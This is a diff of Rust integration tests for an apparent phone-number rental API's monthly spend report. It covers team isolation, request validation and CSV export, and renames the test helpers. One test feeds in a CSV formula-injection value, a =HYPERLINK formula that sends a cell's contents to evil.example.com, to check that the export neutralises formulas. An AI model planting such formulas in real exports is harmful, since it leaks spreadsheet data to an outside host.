@@ -5,11 +5,11 @@ use std::time::Duration;
 use numberdesk::domain::time::Timestamp;
 use serde_json::{Value, json};
 
-use crate::support::answer::Answer;
 use crate::support::database::{Database, on_both_stores};
 use crate::support::eventually;
-use crate::support::people::{ALICE, BOB, DORA, LENA, OLGA, Person};
-use crate::support::server::{Setup, Stage, send, text};
+use crate::support::personas::{ALICE, BOB, DORA, LENA, OLGA, Persona};
+use crate::support::response::ApiResponse;
+use crate::support::server::{TestConfig, TestServer, send, text};
 
 on_both_stores! {
     a_number_counts_in_each_month_in_which_it_was_held_and_in_no_other,
@@ -25,7 +25,7 @@ on_both_stores! {
 }
 
 const SPENDING: &str = "numbers:read numbers:rent numbers:update numbers:release spend:read";
-const OLA: Person = OLGA.with("numbers:read numbers:admin spend:read");
+const OLA: Persona = OLGA.with("numbers:read numbers:admin spend:read");
 /// The month to which [`rewound`] moves everything.
 const THEN: &str = "2026-03";
 
@@ -40,8 +40,8 @@ async fn rewound(database: &Database) {
         .await;
 }
 
-async fn spend(stage: &Stage, person: &Person, month: &str, by: &str) -> Value {
-    stage
+async fn spend(server: &TestServer, person: &Persona, month: &str, by: &str) -> Value {
+    server
         .get(person, &format!("/v1/spend?month={month}&group_by={by}"))
         .await
         .expect(200)
@@ -63,20 +63,24 @@ fn group(key: impl Into<Value>, numbers: u64, amount: &str) -> (Value, u64, Stri
     (key.into(), numbers, amount.to_owned())
 }
 
-async fn moves(stage: &Stage, number: &str, team: &str) {
+async fn moves(server: &TestServer, number: &str, team: &str) {
     let path = format!("/v1/phone-numbers/{number}/team");
-    send(stage.by(&OLGA, "PUT", &path).json(&json!({ "team": team })))
-        .await
-        .expect(200);
+    send(
+        server
+            .request_as(&OLGA, "PUT", &path)
+            .json(&json!({ "team": team })),
+    )
+    .await
+    .expect(200);
 }
 
 async fn a_number_counts_in_each_month_in_which_it_was_held_and_in_no_other(database: Database) {
-    let stage = Stage::new(database.clone()).await;
-    let number = stage.rent(&ALICE, "kept", "DE").await;
-    let released = stage.rent(&ALICE, "released", "FR").await;
-    stage.release(&ALICE, &released).await.empty(204);
+    let server = TestServer::new(database.clone()).await;
+    let number = server.rent(&ALICE, "kept", "DE").await;
+    let released = server.rent(&ALICE, "released", "FR").await;
+    server.release(&ALICE, &released).await.empty(204);
     rewound(&database).await;
-    let then = spend(&stage, &OLA, THEN, "team").await;
+    let then = spend(&server, &OLA, THEN, "team").await;
     assert_eq!(
         then,
         json!({
@@ -85,41 +89,41 @@ async fn a_number_counts_in_each_month_in_which_it_was_held_and_in_no_other(data
             "total": { "numbers": 2, "amount": "9.00" },
         })
     );
-    assert_eq!(groups(&spend(&stage, &OLA, "2026-02", "team").await), []);
+    assert_eq!(groups(&spend(&server, &OLA, "2026-02", "team").await), []);
     for month in ["2026-04", "2026-11"] {
-        let later = spend(&stage, &OLA, month, "team").await;
+        let later = spend(&server, &OLA, month, "team").await;
         assert_eq!(groups(&later), [group("sales", 1, "5.00")], "{month}");
     }
     // Nobody holds anything in a month that has not begun.
-    assert_eq!(groups(&spend(&stage, &OLA, "9998-12", "team").await), []);
+    assert_eq!(groups(&spend(&server, &OLA, "9998-12", "team").await), []);
     // A month later it is released, too: the month still counts.
-    stage.release(&ALICE, &number).await.empty(204);
+    server.release(&ALICE, &number).await.empty(204);
     let april: Timestamp = "2026-04-01T00:00:00Z".parse().unwrap();
     let moved = format!("UPDATE ledger SET at = {0} WHERE at > {0}", april.as_micros());
     database.change(&moved).await;
     for (month, numbers) in [(THEN, 2), ("2026-04", 1), ("2026-05", 0)] {
-        let total = &spend(&stage, &OLA, month, "team").await["total"];
+        let total = &spend(&server, &OLA, month, "team").await["total"];
         assert_eq!(total["numbers"], numbers, "{month}: {total}");
     }
 }
 
 async fn what_close_billed_replaces_the_estimate(database: Database) {
-    let setup = Setup {
+    let config = TestConfig {
         full_sync: "1s",
-        ..Setup::default()
+        ..TestConfig::default()
     };
-    let stage = Stage::with(database.clone(), setup).await;
+    let server = TestServer::with(database.clone(), config).await;
     let person = ALICE.with(SPENDING);
-    stage.close.set(json!({ "billing_delay": null })).await;
-    stage.rent(&person, "one", "DE").await;
+    server.close.set(json!({ "billing_delay": null })).await;
+    server.rent(&person, "one", "DE").await;
     let month = this_month(&database).await;
-    let estimated = spend(&stage, &person, &month, "team").await;
+    let estimated = spend(&server, &person, &month, "team").await;
     assert_eq!(groups(&estimated), [group("sales", 1, "5.00")]);
-    stage.close.set(json!({ "billing_delay": "0s" })).await;
-    stage.rent(&person, "two", "DE").await;
+    server.close.set(json!({ "billing_delay": "0s" })).await;
+    server.rent(&person, "two", "DE").await;
     eventually("Close has billed", || async {
-        let billed = spend(&stage, &person, &month, "team").await;
-        let me = stage.get(&person, "/v1/me").await.expect(200);
+        let billed = spend(&server, &person, &month, "team").await;
+        let me = server.get(&person, "/v1/me").await.expect(200);
         let held = text(&me["teams"][0]["usage"]["monthly_held"]);
         (held == "2.30" && groups(&billed) == [group("sales", 2, "2.30")]).then_some(())
     })
@@ -133,49 +137,49 @@ async fn this_month(database: &Database) -> String {
 }
 
 async fn a_number_that_moves_counts_once_for_whom_it_was_first(database: Database) {
-    let stage = Stage::new(database.clone()).await;
-    let number = stage.rent(&ALICE, "one", "DE").await;
-    moves(&stage, &number, "support").await;
+    let server = TestServer::new(database.clone()).await;
+    let number = server.rent(&ALICE, "one", "DE").await;
+    moves(&server, &number, "support").await;
     rewound(&database).await;
     assert_eq!(
-        groups(&spend(&stage, &OLA, THEN, "team").await),
+        groups(&spend(&server, &OLA, THEN, "team").await),
         [group("sales", 1, "5.00")]
     );
     assert_eq!(
-        groups(&spend(&stage, &OLA, "2026-04", "team").await),
+        groups(&spend(&server, &OLA, "2026-04", "team").await),
         [group("support", 1, "5.00")]
     );
     // The receiving team does not see it in that month, although it has entries in it.
     let bob = BOB.with(SPENDING);
-    assert_eq!(groups(&spend(&stage, &bob, THEN, "team").await), []);
-    let april = spend(&stage, &bob, "2026-04", "user").await;
+    assert_eq!(groups(&spend(&server, &bob, THEN, "team").await), []);
+    let april = spend(&server, &bob, "2026-04", "user").await;
     // Nor who of the other team ordered it.
     assert_eq!(groups(&april), [group(Value::Null, 1, "5.00")]);
-    let both = spend(&stage, &DORA.with(SPENDING), "2026-04", "user").await;
+    let both = spend(&server, &DORA.with(SPENDING), "2026-04", "user").await;
     assert_eq!(groups(&both), [group("alice@example.com", 1, "5.00")]);
-    let march = spend(&stage, &ALICE.with(SPENDING), THEN, "user").await;
+    let march = spend(&server, &ALICE.with(SPENDING), THEN, "user").await;
     assert_eq!(groups(&march), [group("alice@example.com", 1, "5.00")]);
 }
 
 async fn who_ordered_is_told_and_nobody_for_what_was_adopted(database: Database) {
-    let setup = Setup {
+    let config = TestConfig {
         full_sync: "1s",
-        ..Setup::default()
+        ..TestConfig::default()
     };
-    let stage = Stage::with(database.clone(), setup).await;
-    stage.rent(&ALICE, "one", "DE").await;
-    stage.rent(&ALICE, "two", "FR").await;
-    stage.rent(&LENA, "three", "FR").await;
-    let orphan = text(&stage.close.person_rents(json!({ "country": "DE" })).await["id"]);
+    let server = TestServer::with(database.clone(), config).await;
+    server.rent(&ALICE, "one", "DE").await;
+    server.rent(&ALICE, "two", "FR").await;
+    server.rent(&LENA, "three", "FR").await;
+    let orphan = text(&server.close.person_rents(json!({ "country": "DE" })).await["id"]);
     eventually("the desk knows the orphan", || async {
-        let answer = stage.get(&OLGA, &format!("/v1/phone-numbers/{orphan}")).await;
+        let answer = server.get(&OLGA, &format!("/v1/phone-numbers/{orphan}")).await;
         (answer.status == 200).then_some(())
     })
     .await;
-    let before = spend(&stage, &OLA, &this_month(&database).await, "user").await;
+    let before = spend(&server, &OLA, &this_month(&database).await, "user").await;
     assert_eq!(before["total"]["numbers"], 3, "what nobody holds costs nobody");
-    moves(&stage, &orphan, "sales").await;
-    let answer = spend(&stage, &OLA, &this_month(&database).await, "user").await;
+    moves(&server, &orphan, "sales").await;
+    let answer = spend(&server, &OLA, &this_month(&database).await, "user").await;
     let told: Vec<(Value, u64)> = groups(&answer)
         .into_iter()
         .map(|(key, numbers, _)| (key, numbers))
@@ -191,11 +195,11 @@ async fn who_ordered_is_told_and_nobody_for_what_was_adopted(database: Database)
 }
 
 async fn countries_are_told_apart_and_sorted(database: Database) {
-    let stage = Stage::new(database.clone()).await;
+    let server = TestServer::new(database.clone()).await;
     for (key, country) in [("one", "FR"), ("two", "DE"), ("three", "FR"), ("four", "AT")] {
-        stage.rent(&ALICE, key, country).await;
+        server.rent(&ALICE, key, country).await;
     }
-    let answer = spend(&stage, &OLA, &this_month(&database).await, "country").await;
+    let answer = spend(&server, &OLA, &this_month(&database).await, "country").await;
     assert_eq!(
         groups(&answer),
         [
@@ -208,8 +212,8 @@ async fn countries_are_told_apart_and_sorted(database: Database) {
 }
 
 async fn no_cell_of_the_file_is_taken_for_a_formula(database: Database) {
-    let stage = Stage::new(database.clone()).await;
-    let hostile = |name: &'static str| Person { name, ..ALICE };
+    let server = TestServer::new(database.clone()).await;
+    let hostile = |name: &'static str| Persona { name, ..ALICE };
     for (place, name) in [
         "=HYPERLINK(\"https://evil.example.com/?x=\"&A1,\"ok\")",
         "+1",
@@ -220,11 +224,11 @@ async fn no_cell_of_the_file_is_taken_for_a_formula(database: Database) {
     .into_iter()
     .enumerate()
     {
-        stage.rent(&hostile(name), &format!("key-{place}"), "DE").await;
+        server.rent(&hostile(name), &format!("key-{place}"), "DE").await;
     }
     let month = this_month(&database).await;
     let path = format!("/v1/spend?month={month}&group_by=user");
-    let by_name = stage.get(&OLA, &format!("{path}&format=csv")).await;
+    let by_name = server.get(&OLA, &format!("{path}&format=csv")).await;
     assert_eq!(by_name.status, 200, "{by_name}");
     assert_eq!(
         by_name.header("content-type"),
@@ -243,18 +247,18 @@ async fn no_cell_of_the_file_is_taken_for_a_formula(database: Database) {
         format!("{month},\"plain, with a comma\",1,5.00,USD"),
     ];
     assert_eq!(by_name.text.lines().collect::<Vec<_>>(), expected);
-    let accepted = send(stage.by(&OLA, "GET", &path).header("Accept", "text/csv")).await;
+    let accepted = send(server.request_as(&OLA, "GET", &path).header("Accept", "text/csv")).await;
     assert_eq!(accepted.text, by_name.text);
     // What is named in the query is meant; JSON has no formulas.
-    let json = stage.by(&OLA, "GET", &format!("{path}&format=json"));
+    let json = server.request_as(&OLA, "GET", &format!("{path}&format=json"));
     let json = send(json.header("Accept", "text/csv")).await.expect(200);
     assert!(json["data"].to_string().contains("\"=HYPERLINK"), "{json}");
 }
 
 async fn nobody_sees_what_another_team_spent(database: Database) {
-    let stage = Stage::new(database.clone()).await;
-    stage.rent(&ALICE, "one", "DE").await;
-    stage.rent(&BOB, "two", "US").await;
+    let server = TestServer::new(database.clone()).await;
+    server.rent(&ALICE, "one", "DE").await;
+    server.rent(&BOB, "two", "US").await;
     let month = this_month(&database).await;
     let (alice, bob, dora) = (ALICE.with(SPENDING), BOB.with(SPENDING), DORA.with(SPENDING));
     let (sales, support) = (group("sales", 1, "5.00"), group("support", 1, "4.00"));
@@ -268,28 +272,29 @@ async fn nobody_sees_what_another_team_spent(database: Database) {
         (&OLA, "", vec![sales, support.clone()]),
         (&OLA, "&team=support", vec![support]),
     ] {
-        let answer = spend(&stage, person, &format!("{month}{team}"), "team").await;
+        let answer = spend(&server, person, &format!("{month}{team}"), "team").await;
         assert_eq!(groups(&answer), expected, "{} {team}", person.name);
     }
     for by in ["country", "user"] {
-        let answer = spend(&stage, &bob, &month, by).await;
+        let answer = spend(&server, &bob, &month, by).await;
         assert_eq!(answer["total"], json!({ "numbers": 1, "amount": "4.00" }), "{by}");
     }
-    let foreign = stage
+    let foreign = server
         .get(&alice, &format!("/v1/spend?month={month}&team=support"))
         .await;
-    let unknown = stage
+    let unknown = server
         .get(&alice, &format!("/v1/spend?month={month}&team=no-such-team"))
         .await;
     foreign.problem(404, "not-found");
     crate::http::isolation::same_but_for_what_was_asked(&foreign, &unknown);
-    let missing = stage.get(&ALICE, &format!("/v1/spend?month={month}")).await;
+    let missing = server.get(&ALICE, &format!("/v1/spend?month={month}")).await;
     assert_eq!(missing.problem(403, "permission-missing")["need"], "spend:read");
 }
 
 async fn wrong_questions_are_told_what_would_be_right(database: Database) {
-    let stage = Stage::new(database).await;
-    let pointer = |answer: &Answer| text(&answer.problem(400, "invalid-request")["errors"][0]["pointer"]);
+    let server = TestServer::new(database).await;
+    let pointer =
+        |answer: &ApiResponse| text(&answer.problem(400, "invalid-request")["errors"][0]["pointer"]);
     for month in [
         "",
         "2026",
@@ -301,10 +306,10 @@ async fn wrong_questions_are_told_what_would_be_right(database: Database) {
         "november",
         "%00",
     ] {
-        let answer = stage.get(&OLA, &format!("/v1/spend?month={month}")).await;
+        let answer = server.get(&OLA, &format!("/v1/spend?month={month}")).await;
         assert_eq!(pointer(&answer), "/query/month", "{month}");
     }
-    let answer = stage.get(&OLA, "/v1/spend").await;
+    let answer = server.get(&OLA, "/v1/spend").await;
     assert_eq!(pointer(&answer), "/query", "{answer}");
     assert!(answer.text.contains("`month` is required"), "{answer}");
     for (query, place) in [
@@ -313,20 +318,22 @@ async fn wrong_questions_are_told_what_would_be_right(database: Database) {
         ("team=a%20b", "/query/team"),
         ("limit=5", "/query/limit"),
     ] {
-        let answer = stage.get(&OLA, &format!("/v1/spend?month=2026-11&{query}")).await;
+        let answer = server
+            .get(&OLA, &format!("/v1/spend?month=2026-11&{query}"))
+            .await;
         assert_eq!(pointer(&answer), place);
     }
 }
 
 async fn the_present_month_costs_what_is_held_when_nothing_left(database: Database) {
-    let stage = Stage::new(database.clone()).await;
+    let server = TestServer::new(database.clone()).await;
     for place in 0..4 {
-        stage.rent(&ALICE, &format!("a-{place}"), "FR").await;
-        stage.rent(&BOB, &format!("b-{place}"), "DE").await;
+        server.rent(&ALICE, &format!("a-{place}"), "FR").await;
+        server.rent(&BOB, &format!("b-{place}"), "DE").await;
     }
-    let number = stage.rent(&ALICE, "moved", "DE").await;
-    moves(&stage, &number, "support").await;
-    let answer = spend(&stage, &OLA, &this_month(&database).await, "team").await;
+    let number = server.rent(&ALICE, "moved", "DE").await;
+    moves(&server, &number, "support").await;
+    let answer = spend(&server, &OLA, &this_month(&database).await, "team").await;
     let held = database
         .ask("SELECT CAST(SUM(monthly_held) AS BIGINT) FROM usage")
         .await;
@@ -338,7 +345,7 @@ async fn the_present_month_costs_what_is_held_when_nothing_left(database: Databa
 }
 
 async fn entries_are_read_over_many_pages(database: Database) {
-    let stage = Stage::new(database.clone()).await;
+    let server = TestServer::new(database.clone()).await;
     let noon: Timestamp = "2026-03-10T12:00:00Z".parse().unwrap();
     // One number with more entries than fit a page, and many with one or two.
     let numbers = "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1500) \
@@ -351,6 +358,6 @@ async fn entries_are_read_over_many_pages(database: Database) {
              {numbers} SELECT 'led_' || CAST(200000 + i AS TEXT), {at}, 'sales', 'phon_100500', 'true_up', 0, 0, 1, 0 FROM n"
         ))
         .await;
-    let answer = spend(&stage, &OLA, THEN, "team").await;
+    let answer = spend(&server, &OLA, THEN, "team").await;
     assert_eq!(groups(&answer), [group("sales", 1_500, "1740.00")]);
 }
